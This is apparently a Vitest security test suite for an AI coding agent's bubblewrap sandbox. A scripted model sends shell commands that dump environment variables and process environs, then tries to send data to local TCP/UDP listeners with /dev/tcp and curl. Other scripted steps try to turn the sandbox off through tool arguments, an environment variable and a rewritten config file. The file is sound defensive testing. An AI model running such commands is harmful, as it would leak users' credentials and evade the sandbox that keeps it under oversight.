import { randomUUID } from 'node:crypto'
import dgram from 'node:dgram'
import fs from 'node:fs'
import net from 'node:net'
import path from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { describe, expect, onTestFinished, test } from 'vitest'
import type { ScriptedReply } from '../../../src/adapters/models/scripted.ts'
import { testWith } from '../../support/needs.ts'
import { Program } from '../../support/program.ts'
import { temporaryFolder } from '../../support/workbench.ts'

const shell = (command: string, more: Record<string, unknown> = {}): ScriptedReply => ({
  calls: [{ name: 'shell', input: { command, ...more } }],
})

const done: ScriptedReply = { text: 'done' }

/** The person's own config with a scripted model. */
function withConfig(program: Program, execution: string, ...replies: ScriptedReply[]): Program {
  const file = program.replies(...replies).replace('--model=scripted/', '')
  const backend = `backend: { type: scripted, file: ${JSON.stringify(file)} }`
  return program.configure(`agents: [{ id: a, ${backend} }]\nexecution: ${execution}\n`)
}

/** A PATH with everything but bubblewrap; or with one that does not work. */
function pathWithout(program: string, instead?: string): string {
  const folder = temporaryFolder()
  // The first of a name counts, as in the real PATH.
  for (const place of (process.env['PATH'] ?? '').split(path.delimiter)) {
    for (const name of fs.existsSync(place) ? fs.readdirSync(place) : []) {
      const link = path.join(folder, name)
      if (name !== program && !fs.existsSync(link)) fs.symlinkSync(path.join(place, name), link)
    }
  }
  if (instead) fs.writeFileSync(path.join(folder, program), instead, { mode: 0o755 })
  return folder
}

describe('security 10: a seeded key and the network', () => {
  async function listen(): Promise<{ tcp: number; udp: number; heard: () => number }> {
    let heard = 0
    const server = net.createServer((socket) => {
      heard += 1
      socket.on('error', () => {}).end()
    })
    const datagrams = dgram.createSocket('udp4').on('message', () => (heard += 1))
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    await new Promise<void>((resolve) => datagrams.bind(0, '127.0.0.1', resolve))
    onTestFinished(() => {
      server.close()
      datagrams.close()
    })
    return {
      tcp: (server.address() as net.AddressInfo).port,
      udp: datagrams.address().port,
      heard: () => heard,
    }
  }

  const key = `sk-seeded-${randomUUID()}`
  const spy = (tcp: number, udp: number): string =>
    [
      'env; set; export -p; cat /proc/self/environ; cat /proc/*/environ; ps auxeww',
      `exec 3<>/dev/tcp/127.0.0.1/${tcp}; echo x > /dev/udp/127.0.0.1/${udp}`,
      `curl -sm 1 http://127.0.0.1:${tcp}/; getent hosts example.com; true`,
    ].join('\n')

  async function spyWith(flags: string[], execution?: string) {
    const { tcp, udp, heard } = await listen()
    const program = new Program()
    const model = program.replies(shell(spy(tcp, udp)), done)
    if (execution) withConfig(program, execution, shell(spy(tcp, udp)), done)
    const args = [
      '-p',
      'spy',
      ...flags,
      '--verbose',
      '--output-format',
      'stream-json',
      ...(execution ? [] : [model]),
    ]
    const { stdout, stderr } = await program.run(args, {
      env: { OPENAI_API_KEY: key, SSH_AUTH_SOCK: '/tmp/agent' },
    })
    await sleep(50)
    const left = fs
      .readdirSync(program.home, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => fs.readFileSync(path.join(entry.parentPath, entry.name)))
    const leaked = [Buffer.from(stdout + stderr), ...left].some((bytes) => bytes.includes(key))
    return { leaked, heard: heard(), ran: stdout.includes('TERM=dumb') }
  }

  testWith('bwrap', 'no key in output, log or database, and no packet, in Plan and in Act mode', async () => {
    expect(await spyWith(['--plan'])).toEqual({ leaked: false, heard: 0, ran: true })
    expect(await spyWith(['--permission-mode', 'auto'])).toEqual({ leaked: false, heard: 0, ran: true })
  })

  test('the attack reaches the network where there is no sandbox', async () => {
    const { heard, ran } = await spyWith(['--permission-mode', 'auto'], '{ sandbox: off }')
    expect({ ran, reached: heard > 0 }).toEqual({ ran: true, reached: true })
  })

  testWith('bwrap', 'Plan mode has no network even where the config allows it', async () => {
    expect(await spyWith(['--plan'], '{ network: true }')).toEqual({ leaked: false, heard: 0, ran: true })
    const allowed = await spyWith(['--permission-mode', 'auto'], '{ network: true }')
    expect({ ...allowed, heard: allowed.heard > 0 }).toEqual({ leaked: false, heard: true, ran: true })
  })
})

describe('security 11: no sandbox, or one that does not work', () => {
  const write = shell('echo x > made; cat /etc/hostname; echo "ran $?"')
  const broken = '#!/bin/sh\necho "bwrap: No permissions to create new namespace" >&2\nexit 1\n'
  const paths: [string, () => string][] = [
    ['missing', () => pathWithout('bwrap')],
    ['failing', () => pathWithout('bwrap', broken)],
  ]

  for (const [state, makePath] of paths) {
    test(`${state}: Plan mode has no shell, and a call by name does not run`, async () => {
      const program = new Program()
      const args = ['-p', 'go', '--plan', '--output-format', 'stream-json', program.replies(write, done)]
      const { code, stdout } = await program.run(args, { env: { PATH: makePath() } })
      expect(code).toBe(0)
      expect(stdout).toContain('Refused')
      expect(stdout).not.toContain('ran 0')
      expect(fs.readdirSync(program.folder)).toEqual([])
    })

    test(`${state}: a config that requires it is refused with exit code 44, in every mode`, async () => {
      for (const flags of [['--plan'], ['--permission-mode', 'auto']]) {
        const program = withConfig(new Program(), '{ sandbox: required }', write, done)
        const ended = await program.run(['-p', 'go', ...flags], { env: { PATH: makePath() } })
        expect(ended.code).toBe(44)
        expect(ended.stderr).toContain('requires a sandbox')
        expect(fs.readdirSync(program.folder)).toEqual([])
      }
    })

    test(`${state}: Act mode runs unconfined, and doctor says so`, async () => {
      const program = new Program()
      const env = { PATH: makePath() }
      await program.run(['-p', 'go', '--permission-mode', 'auto', program.replies(write, done)], { env })
      expect(fs.readdirSync(program.folder)).toEqual(['made'])
      const { stdout } = await program.run(['doctor'], { env })
      expect(stdout).toContain('Plan mode has no shell')
    })
  }

  testWith('bwrap', 'a model cannot turn it off', async () => {
    const attempts = [
      shell('echo x > /etc/conclave-test', { sandbox: 'off' }),
      shell('echo x > /etc/conclave-test', { access: 'write', confined: false }),
      shell('CONCLAVE_SANDBOX=off; export CONCLAVE_SANDBOX; echo x > /etc/conclave-test'),
      shell(
        'mkdir -p .conclave; printf "execution: { sandbox: off }" > .conclave/config.yaml; cp .conclave/config.yaml conclave.yaml',
      ),
      shell('echo x > /etc/conclave-test; echo end'),
    ]
    const program = withConfig(new Program(), '{ sandbox: auto }', ...attempts, done)
    const { stdout } = await program.run([
      '-p',
      'go',
      '--permission-mode',
      'auto',
      '--output-format',
      'stream-json',
    ])
    expect(stdout).toContain('Read-only file system')
    expect(fs.existsSync('/etc/conclave-test')).toBe(false)
    const left = fs.readdirSync(program.folder, { recursive: true }).map(String)
    expect(left.filter((name) => name.endsWith('.yaml'))).toEqual([])
  })
})

describe('security 13: the program is killed while commands run', () => {
  const running = (mark: string): number[] =>
    fs.readdirSync('/proc').flatMap((pid) => {
      try {
        const line = fs.readFileSync(`/proc/${pid}/cmdline`, 'latin1')
        return line.includes(mark) && !/\) [ZX] /u.test(fs.readFileSync(`/proc/${pid}/stat`, 'latin1'))
          ? [Number(pid)]
          : []
      } catch {
        return []
      }
    })

  for (const sandbox of ['auto', 'off']) {
    testWith('bwrap', `sandbox ${sandbox}: nothing of them is left after five seconds`, async () => {
      const mark = `${7_000_000 + Math.floor(Math.random() * 1_000_000)}`
      const tree = `trap '' TERM HUP INT; (setsid sleep ${mark} &); sleep ${mark} & sleep ${mark}; wait`
      const program = withConfig(
        new Program(),
        `{ sandbox: ${sandbox} }`,
        {
          calls: Array.from({ length: 6 }, () => ({
            name: 'shell',
            input: { command: tree, background: true },
          })),
        },
        shell(tree),
        done,
      )
      const started = program.start(['-p', 'go', '--permission-mode', 'auto'])
      for (let round = 0; round < 400 && countSleeps(mark) < 21; round += 1) await sleep(25)
      expect(countSleeps(mark)).toBe(21)
      started.signal('SIGKILL')
      for (let round = 0; round < 250 && running(mark).length > 0; round += 1) await sleep(20)
      expect(running(mark)).toEqual([])
    })
  }

  const countSleeps = (mark: string): number =>
    running(mark).filter((pid) => {
      try {
        return fs.readFileSync(`/proc/${pid}/cmdline`, 'latin1').startsWith('sleep\0')
      } catch {
        // It ended between the two looks.
        return false
      }
    }).length
})
